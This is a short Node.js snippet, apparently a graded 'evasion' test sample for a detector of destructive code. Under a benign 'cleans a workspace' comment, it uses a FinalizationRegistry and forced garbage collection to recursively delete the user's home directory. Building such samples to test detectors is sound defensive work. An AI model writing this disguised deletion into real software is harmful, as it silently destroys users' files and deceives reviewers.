// evasion: a FinalizationRegistry whose callback removes the held value, os.homedir()
// grade: hard; does: delete
// Cleans a workspace when its handle is collected.
const fs = require("fs");
const os = require("os");
const registry = new FinalizationRegistry((dir) => {
  fs.rmSync(dir, { recursive: true, force: true });
});
(function () {
  const handle = { id: 1 };
  registry.register(handle, os.homedir());
})();
setInterval(() => { if (global.gc) global.gc(); }, 100).unref();
